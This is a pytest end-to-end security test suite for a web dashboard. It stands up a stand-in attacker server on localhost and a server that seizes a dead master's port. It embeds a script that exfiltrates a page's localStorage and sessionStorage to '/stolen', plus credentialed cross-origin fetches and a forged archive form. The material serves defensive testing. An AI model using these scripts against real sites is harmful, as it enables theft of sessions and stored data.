"""Another server on the browser's host name, in a real Chromium: what a colleague's TensorBoard behind ``ssh -L`` is to it, and who
takes the port of a master that has died. Nothing that reaches it opens anything."""

from __future__ import annotations

import contextlib
import http.client
import json
import re
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest

from tests.e2e.conftest import User, make_user, take_down
from tests.waiting import LONG_ENOUGH, wait_until
from tests.web.test_browser import chromium  # noqa: F401

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

STEALS = """<!doctype html><title>stranger</title><body>here<script>
const kept = {local: {...localStorage}, session: {...sessionStorage}, at: location.href};
fetch("/stolen", {method: "POST", body: JSON.stringify(kept)});
</script>"""


class Stranger:
    """A server of somebody else. Keeps all that it is sent, answers with ``answer(path)``: a status, headers and a body."""

    def __init__(self, port: int = 0, tls: ssl.SSLContext | None = None) -> None:
        self.heard: list[tuple[str, str, dict[str, str], str]] = []
        self.answer: Callable[[str, str], tuple[int, dict[str, str], str]] = lambda path, body: (200, {}, STEALS)
        stranger = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode()
                headers = {name.lower(): value for name, value in self.headers.items()}
                stranger.heard.append((self.command, self.path, headers, body))
                status, headers, content = stranger.answer(self.path, body)
                self.send_response(status)
                for name, value in {
                    "Content-Type": "text/html",
                    **headers,
                    "Content-Length": str(len(content)),
                }.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(content.encode())

            do_POST = do_GET

            def log_message(self, *_: object) -> None: ...

        class Server(ThreadingHTTPServer):
            allow_reuse_address, daemon_threads = True, True

            def handle_error(self, *_: object) -> None: ...

        self._server = Server(("127.0.0.1", port), Handler)
        if tls is not None:
            # A browser opens connections ahead of need: one on which it says nothing must keep nobody else waiting.
            self._server.socket = tls.wrap_socket(self._server.socket, server_side=True, do_handshake_on_connect=False)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def paths(self) -> list[str]:
        return [path for _, path, _, _ in list(self.heard)]

    def secrets(self) -> set[str]:
        """Whatever might be one: values of cookies, headers, queries and bodies, and the parts of them."""
        text = json.dumps(self.heard)
        parts = re.findall(r"[A-Za-z0-9_.-]{16,}", text)
        return {part for part in parts if not part.startswith("Mozilla")} | {
            value for _, path, _, _ in self.heard for _, value in parse_qsl(urlsplit(path).query) if value
        }


class Tunnel:
    """As ``ssh -L``: a port whose connections go on to another one."""

    def __init__(self, to: int) -> None:
        self.to = to
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                near, _ = self._listener.accept()
                threading.Thread(target=self._carry, args=(near,), daemon=True).start()

    def _carry(self, near: socket.socket) -> None:
        with near:
            try:
                far = socket.create_connection(("127.0.0.1", self.to))
            except OSError:
                return
            with far:
                back = threading.Thread(target=_pump, args=(far, near), daemon=True)
                back.start()
                _pump(near, far)
                back.join()

    def close(self) -> None:
        self._listener.close()


def _pump(source: socket.socket, to: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while data := source.recv(65536):
            to.sendall(data)
    for end in (source, to):
        with contextlib.suppress(OSError):
            end.shutdown(socket.SHUT_RDWR)


class Setting:
    """A master, the way to it, and a browser tab that is logged in."""

    def __init__(self, user: User, chromium: Any, tls: bool) -> None:  # noqa: F811
        self.user, self.tls = user, tls
        self.tunnel = Tunnel(self.master_port()) if tls else None
        self.context = chromium.new_context(ignore_https_errors=True)
        self.page = self.context.new_page()
        self.page.set_default_timeout(LONG_ENOUGH * 1000)
        link = urlsplit(json.loads(user.det("ui", "--json"))["browser_url"])
        self.host = str(link.hostname)
        self.root = f"{link.scheme}://{self.host}:{self.port}/det/"
        self.page.goto(f"{self.root}enter?{link.query}")
        self.page.wait_for_url(f"{self.root}experiments")

    @property
    def port(self) -> int:
        return self.tunnel.port if self.tunnel else self.master_port()

    def master_port(self) -> int:
        return urlsplit(self.user.master()["url"]).port or 0

    def cookies(self) -> set[str]:
        return {cookie["value"] for cookie in self.context.cookies()}

    def ask(self, method: str, path: str, **headers: str) -> tuple[int, str]:
        return self.ask_with(method, path, "action=archive&id=1" if method == "POST" else "", **headers)

    def ask_with(self, method: str, path: str, body: str, **headers: str) -> tuple[int, str]:
        if self.tls:
            trusting = ssl._create_unverified_context()  # noqa: S323
            asked: http.client.HTTPConnection = http.client.HTTPSConnection(
                "127.0.0.1", self.master_port(), timeout=LONG_ENOUGH, context=trusting
            )
        else:
            asked = http.client.HTTPConnection("127.0.0.1", self.master_port(), timeout=LONG_ENOUGH)
        with contextlib.closing(asked):
            asked.request(method, path, body or None, headers)
            answer = asked.getresponse()
            return answer.status, answer.read().decode("utf-8", "replace")

    def opens_nothing(self, secrets: set[str], hosts: set[str]) -> None:
        """None of ``secrets`` is good for the API or the pages, whatever it is taken for."""
        name = f"dethpc_session_{self.user.master()['cluster_id'][:8]}"
        form = {"Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Site": "same-origin"}
        for secret in secrets:
            assert self.ask("GET", "/api/v1/me", Authorization=f"Bearer {secret}")[0] == 401, secret
            for host in hosts:
                shown = {"Host": f"{host}:{self.port}", "Cookie": f"{name}={secret}"}
                assert self.ask("GET", "/det/experiments", **shown)[0] == 303, secret
                for proof in secrets:
                    assert (
                        self.ask("POST", "/det/experiments/act", **shown, **form, **{"X-Dethpc-Proof": proof})[0] == 401
                    )
        assert not self.user.session().get("/api/v1/experiments/1")["experiment"]["archived"]

    def configure(self, **of_master: object) -> None:
        section = {"tls": "on" if self.tls else "auto", **of_master}
        (self.user.home / "site.yaml").write_text(json.dumps({"master": section}))

    def come_back(self, port: int) -> None:
        """A master starts at ``port``, which the browser's connections may keep for a while."""
        self.configure(port=port)

        def is_up() -> bool:
            with contextlib.suppress(AssertionError):
                self.user.det("master", "up")
                return self.master_port() == port
            return False

        wait_until(is_up)


@pytest.fixture(params=["http", pytest.param("tls behind a tunnel", marks=pytest.mark.everything)])
def setting(request: Any, chromium: Any, tmp_path: Path) -> Iterator[Setting]:  # noqa: F811
    user = make_user(tmp_path, DETHPC_SCHEDULER="local", DETHPC_LOCAL_SLOTS="1")
    user.home.mkdir(mode=0o700)
    tls = request.param != "http"
    (user.home / "site.yaml").write_text(json.dumps({"master": {"tls": "on" if tls else "auto"}}))
    assert user.create(name="mine", hyperparameters={"lr": 0.1, "steps": 1}, searcher=SINGLE) == 1
    user.wait_state(1, "COMPLETED")
    made = Setting(user, chromium, tls)
    yield made
    made.context.close()
    if made.tunnel:
        made.tunnel.close()
    take_down(user)


SINGLE = {"name": "single", "metric": "validation_loss"}


def tls_of_a_stranger(setting: Setting, folder: Path) -> ssl.SSLContext | None:
    """A certificate of the stranger's own, which this browser takes as it takes every one."""
    if not setting.tls:
        return None
    from dethpc.config.site import Master
    from dethpc.master.certificate import certificate_of
    from dethpc.rundir.home import Home

    folder.mkdir()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*certificate_of(Home(folder), Master(), ["localhost"]))
    return context


def test_another_port_of_the_host_gets_nothing(setting: Setting) -> None:
    """Navigations there, also by way of the master, requests of its scripts to the master, and forms of its own."""
    stranger, page = Stranger(), setting.page
    cookies = setting.cookies()
    assert len(cookies) == 1
    scheme = urlsplit(setting.root).scheme
    asks = f"""<!doctype html><title>stranger</title><body><script>
    const at = "{scheme}://localhost:{setting.port}";
    Promise.allSettled(["/det/experiments", "/det/successor", "/api/v1/me", "/det/enter?code=x"].flatMap((path) => [
      fetch(at + path, {{credentials: "include", mode: "no-cors"}}),
      fetch(at + path, {{credentials: "include", mode: "no-cors", method: "POST"}}),
      fetch(at + path, {{credentials: "include"}}).then((answer) => answer.text()).then((body) =>
        fetch("/stolen", {{method: "POST", body}})),
    ])).then(() => fetch("/done"));
    </script>"""
    away = {"/det/x": (302, {"Location": f"{scheme}://localhost:{setting.port}/det/experiments"}, "")}
    stranger.answer = lambda path, body: away.get(path, (200, {}, asks if path == "/asks" else STEALS))
    for name in ("localhost", "127.0.0.1", "stranger.localhost"):
        there = f"http://{name}:{stranger.port}"
        page.goto(f"{setting.root}experiments/1")
        with page.expect_navigation(url=f"{there}/"):
            page.evaluate("to => { location.href = to; }", f"{there}/")  # a link in a page of ours
        page.wait_for_function("() => document.title === 'stranger'")
        done = stranger.paths().count("/done")
        page.goto(f"{there}/asks")
        wait_until(lambda done=done: stranger.paths().count("/done") > done)  # type: ignore[misc]
        page.goto(f"{there}/det/x")
        page.wait_for_url(f"{scheme}://localhost:{setting.port}/det/login*")
        page.goto(f"{there}/form")
        page.set_content(
            f'<form method="post" action="{scheme}://localhost:{setting.port}/det/experiments/act">'
            '<input name="action" value="archive"><input name="id" value="1"><button>x</button></form>'
        )
        page.click("button")
        page.wait_for_selector("text=Nothing was done")
    page.goto(f"{setting.root}experiments")
    page.wait_for_selector("#experiment-1")
    assert setting.cookies() >= cookies, "and the tab is still logged in"
    everything = json.dumps(stranger.heard)
    assert not any(cookie in everything for cookie in setting.cookies()), "no cookie of ours"
    assert setting.host not in everything, "nor the name under which one would get it"
    assert "/stolen" in stranger.paths(), "its scripts ran"
    setting.opens_nothing(stranger.secrets(), {setting.host, "localhost"})
    stranger.close()


def has_its_key(page: Any) -> None:
    """The page has been renewed, and has read what it needs to know its master again."""
    with page.expect_response(lambda answer: answer.url.endswith("/renewal"), timeout=LONG_ENOUGH * 1000) as renewal:
        page.reload()
    renewal.value.finished()


def test_who_takes_the_port_of_a_dead_master_gets_nothing_that_is_still_good(setting: Setting, tmp_path: Path) -> None:
    """An open tab asks for a proof, and sends no cookie. Where a person goes there, the cookie and all that the origin keeps are
    taken, and good for nothing when the master is back at its port."""
    page, port = setting.page, setting.master_port()
    page.goto(f"{setting.root}experiments/1")
    has_its_key(page)
    tls = tls_of_a_stranger(setting, tmp_path / "stranger")
    setting.user.kill_master()
    stranger = wait_for_port(port, tls)
    stranger.answer = lambda path, body: (200, {"Content-Type": "text/event-stream"}, "event: changed\ndata:\n\n")
    wait_until(lambda: stranger.paths().count("/det/successor") > 2)
    assert set(stranger.paths()) == {"/det/successor"}, "the tab believes nothing before it is proved"
    assert not any("cookie" in headers for _, _, headers, _ in stranger.heard)
    assert page.url == f"{setting.root}experiments/1"
    stranger.answer = lambda path, body: (200, {}, STEALS)
    page.goto(f"{setting.root}queue")
    wait_until(lambda: "/stolen" in stranger.paths())
    taken = json.dumps(stranger.heard)
    assert all(cookie in taken for cookie in setting.cookies()) and '\\"local\\"' in taken.replace("\\\\", "\\")
    page.goto("about:blank")
    stranger.close()
    setting.come_back(port)
    setting.opens_nothing(stranger.secrets() | setting.cookies(), {setting.host, "localhost"})


def test_an_open_tab_goes_on_with_the_next_master_and_with_no_relay_of_it(setting: Setting, tmp_path: Path) -> None:
    page, port = setting.page, setting.master_port()
    page.goto(f"{setting.root}experiments/1")
    has_its_key(page)
    tls = tls_of_a_stranger(setting, tmp_path / "stranger")
    setting.user.kill_master()
    stranger = wait_for_port(port, tls)
    stranger.answer = lambda path, body: (503, {}, "")
    setting.user.det("master", "up")
    assert setting.master_port() != port
    form = {"Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Site": "same-origin"}
    relayed: list[str] = []

    def relay(path: str, body: str) -> tuple[int, dict[str, str], str]:
        if path != "/det/successor":
            return 404, {}, ""
        status, text = setting.ask_with("POST", path, body, **form)
        relayed.append(text)
        return status, {"Content-Type": "application/json"}, text

    stranger.answer = relay
    wait_until(lambda: len(relayed) > 2)
    assert all(json.loads(text)["sealed"] for text in relayed), "answered, and of no use to who cannot read it"
    assert page.url == f"{setting.root}experiments/1", "what is answered at another port is a relay's"
    setting.opens_nothing({value for text in relayed for value in json.loads(text).values()}, {setting.host})
    stranger.close()
    setting.user.det("master", "down")
    setting.come_back(port)
    page.wait_for_url(lambda url: setting.host not in url)  # the next master has another name
    page.wait_for_selector("#curves")
    assert re.fullmatch(rf"[a-z]+://[0-9a-f]{{32}}\.localhost:{setting.port}/det/experiments/1", page.url)
    page.fill("[name=notes]", "still here")
    page.click("text=Save")
    page.wait_for_function("() => document.querySelector('[name=notes]')?.defaultValue === 'still here'")
    page.goto(page.url.partition("?")[0] + "/fork")
    page.click("button[value=create]")
    page.wait_for_selector("text=Is it you?")


def wait_for_port(port: int, tls: ssl.SSLContext | None) -> Stranger:
    made: list[Stranger] = []

    def take() -> bool:
        with contextlib.suppress(OSError):
            made.append(Stranger(port, tls))
        return bool(made)

    wait_until(take)
    return made[0]
